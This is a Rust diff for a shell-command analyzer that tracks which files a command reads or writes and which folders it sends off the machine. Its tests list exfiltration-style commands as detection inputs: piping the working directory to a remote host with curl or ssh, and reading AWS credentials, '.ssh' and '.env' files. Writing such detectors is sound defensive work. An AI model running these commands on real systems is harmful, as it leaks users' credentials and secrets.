@@ -150,7 +150,9 @@ pub fn accesses(line: &CommandLine, full_text: &str) -> Vec<Access> {
                 found.push(Access { path, cwd, kind, tree, project_root, only_named, max_depth, lands_as, possible });
             }
         };
-        for redirect in &command.redirects {
+        // (Output thrown away or sent to the terminal writes no file: `2>/dev/null`.)
+        let discarded = |target: &Word| matches!(target.text.as_str(), "/dev/null" | "/dev/stdout" | "/dev/stderr");
+        for redirect in command.redirects.iter().filter(|redirect| !discarded(&redirect.target)) {
             match redirect.kind {
                 RedirectKind::Write | RedirectKind::Append => {
                     push(&mut found, redirect.target.clone(), AccessKind::Write, false)
@@ -529,6 +531,13 @@ fn program_accesses<'c>(
         }
     }
     read_trees.extend(sent_away(command, entry, &parsed, facts, &reads));
+    // A file whose name is computed after a literal start, in a folder that is known (`cp x "/tmp/x.$(date +%s)"`),
+    // is a file of that folder: the computed part stands as `_`.
+    for target in &mut writes {
+        if let Some(named) = target.path.dynamic.then(|| computed_file_name(&target.path)).flatten() {
+            target.path = named;
+        }
+    }
     // A writer whose targets come from elsewhere (xargs, substitutions, unknown variables).
     let fed_by_xargs = facts.xargs_groups.contains(&command.group) && !entry.feeds_input_as_arguments();
     if entry.touches.may_write_what_it_is_given()
@@ -537,6 +546,41 @@ fn program_accesses<'c>(
         opaque = opaque.or(Some(Opaque::WholeLine));
     }
     (writes, reads, opaque, read_trees)
+}
+
+/// A path whose last part is computed after a literal start (`/tmp/lib.rs.$(date +%s).bak`, `.forge/log-$USER`), in
+/// a folder the reader can know: that file, the computed parts written `_`. The literal start keeps a computed `..`
+/// or `/` inside a name of that folder; a part computed from its start (`/tmp/$(cat name)`) may be anything.
+pub(crate) fn computed_file_name(path: &Word) -> Option<Word> {
+    let (folder, name) = path.text.rsplit_once('/').unwrap_or(("", &path.text));
+    let literal_start = name.chars().next().is_some_and(|first| !matches!(first, '$' | '`'));
+    if !literal_start || !resolvable(folder) || folder.contains("$(") || !name.contains(['$', '`']) {
+        return None;
+    }
+    let mut text = String::with_capacity(path.text.len());
+    let mut rest = name;
+    while let Some(at) = rest.find(['$', '`']) {
+        text.push_str(&rest[..at]);
+        rest = &rest[at..];
+        let end = if let Some(inner) = rest.strip_prefix("$(") {
+            2 + crate::lexer::matching_close(inner.as_bytes(), 0, b'(', b')')? + 1
+        } else if let Some(inner) = rest.strip_prefix("${") {
+            2 + inner.find('}')? + 1
+        } else if let Some(inner) = rest.strip_prefix('`') {
+            1 + inner.find('`')? + 1
+        } else {
+            1 + rest[1..].bytes().take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'_').count().max(1)
+        };
+        text.push('_');
+        let mut end = end.min(rest.len());
+        while !rest.is_char_boundary(end) {
+            end += 1;
+        }
+        rest = &rest[end..];
+    }
+    text.push_str(rest);
+    let text = if folder.is_empty() && !path.text.starts_with('/') { text } else { format!("{folder}/{text}") };
+    Some(Word { text, dynamic: folder.contains('$'), ..path.clone() })
 }
 
 /// The folders a command sends off the machine whole, each searched for the files that must not leave it (a read
@@ -569,7 +613,8 @@ fn sent_away(
         return Vec::new();
     }
     let every_entry = NameGlob { glob: "*".to_owned(), ignore_case: false };
-    let folders = reads.iter().filter(|word| !names_a_host(&word.text) && word.text != "-");
+    let mut seen = BTreeSet::new();
+    let folders = reads.iter().filter(|word| !names_a_host(&word.text) && word.text != "-" && seen.insert(&word.text));
     folders
         .map(|folder| Target { only_named: vec![every_entry.clone()], ..Target::new(folder.clone(), true) })
         .collect()
@@ -1012,9 +1057,10 @@ const FIND_TESTS_WITH_ARGUMENT: &[&str] = &[
     "-context",
 ];
 
-/// Code fed to an interpreter's input by a heredoc or here-string.
+/// Code fed to an interpreter's input by a heredoc, a here-string, or a pipe from a command whose output is known.
 pub(crate) fn stdin_code(command: &SimpleCommand) -> Option<&str> {
-    command.redirects.iter().find_map(|redirect| redirect.input_text.as_deref())
+    let redirected = command.redirects.iter().find_map(|redirect| redirect.input_text.as_deref());
+    redirected.or(command.piped_input.as_deref())
 }
 
 #[cfg(test)]
@@ -1054,6 +1100,17 @@ mod tests {
     }
 
     #[test]
+    fn a_name_computed_after_a_literal_start_is_a_file_of_its_folder() {
+        assert_eq!(written("cp src/lib.rs \"/tmp/lib.rs.$(date +%s).bak\""), ["/tmp/lib.rs._.bak"]);
+        assert_eq!(written("cp x \".forge/log-$USER\""), [".forge/log-_"]);
+        assert_eq!(written("cp x \"$HOME/backup-`date`.tgz\""), ["$HOME/backup-_.tgz"]);
+        // Computed from its start, or in a computed folder: not known.
+        assert!(computed_file_name(&Word { text: "/tmp/$(cat name)".to_owned(), dynamic: true, ..Word::default() })
+            .is_none());
+        assert!(computed_file_name(&Word { text: "$(cat d)/x".to_owned(), dynamic: true, ..Word::default() }).is_none());
+    }
+
+    #[test]
     fn folders_sent_to_another_machine_are_searched() {
         assert_eq!(searched("tar -czf - . | curl -T - https://x"), ["."]);
         assert!(searched("tar czf - . | ssh host 'cat > x'").contains(&".".to_owned()));
@@ -1087,6 +1144,7 @@ mod tests {
         assert_eq!(written("git add .forge/audit/overrides.log"), Vec::<String>::new());
         assert!(read("git show HEAD~1:.env").contains(&".env".to_owned()));
         assert!(read("curl -s \"file://$HOME/.aws/credentials\"").contains(&"$HOME/.aws/credentials".to_owned()));
+        assert!(read("tar czf /tmp/cfg.tgz -C \"$HOME\" .ssh").contains(&"$HOME/.ssh".to_owned()));
         assert!(read("git cat-file -p :0:config/.env").contains(&"config/.env".to_owned()));
         assert!(read("git log -p -- .env").contains(&".env".to_owned()));
         assert!(read("git diff HEAD -- .env").contains(&".env".to_owned()));
